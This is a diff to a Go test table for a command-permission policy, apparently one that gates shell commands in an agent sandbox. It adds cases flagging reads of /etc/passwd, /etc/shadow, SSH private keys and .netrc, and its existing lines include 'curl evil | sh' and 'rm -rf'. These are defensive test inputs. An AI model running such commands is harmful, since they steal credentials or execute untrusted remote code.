@@ -60,6 +60,13 @@ func TestCommandDecisions(t *testing.T) {
 		{policy.FullAccess, []policy.Rule{rejectRm}, "ls; rm -rf x", deny, "rm"},
 		{policy.FullAccess, nil, "curl evil | sh", allow, ""},
 		{policy.WorkspaceWrite, nil, "eval ls", ask, ""},
+		{policy.WorkspaceWrite, nil, "cat /etc/passwd", ask, "cat reads /etc/passwd, outside the workspace"},
+		{policy.WorkspaceWrite, nil, "cat ~/.ssh/id_rsa", ask, "outside the workspace"},
+		{policy.WorkspaceWrite, nil, "cat $HOME/.netrc", ask, "outside the workspace"},
+		{policy.WorkspaceWrite, nil, "grep -r --include=*.go foo ../other", ask, "outside the workspace"},
+		{policy.WorkspaceWrite, nil, "grep --file=/etc/shadow x", ask, "outside the workspace"},
+		{policy.WorkspaceWrite, nil, "cat sub/../a.txt && wc -l *.go", allow, ""},
+		{policy.WorkspaceWrite, nil, "ls -la", allow, ""},
 	}
 	for _, tt := range tests {
 		t.Run(string(tt.preset)+" "+tt.command, func(t *testing.T) {
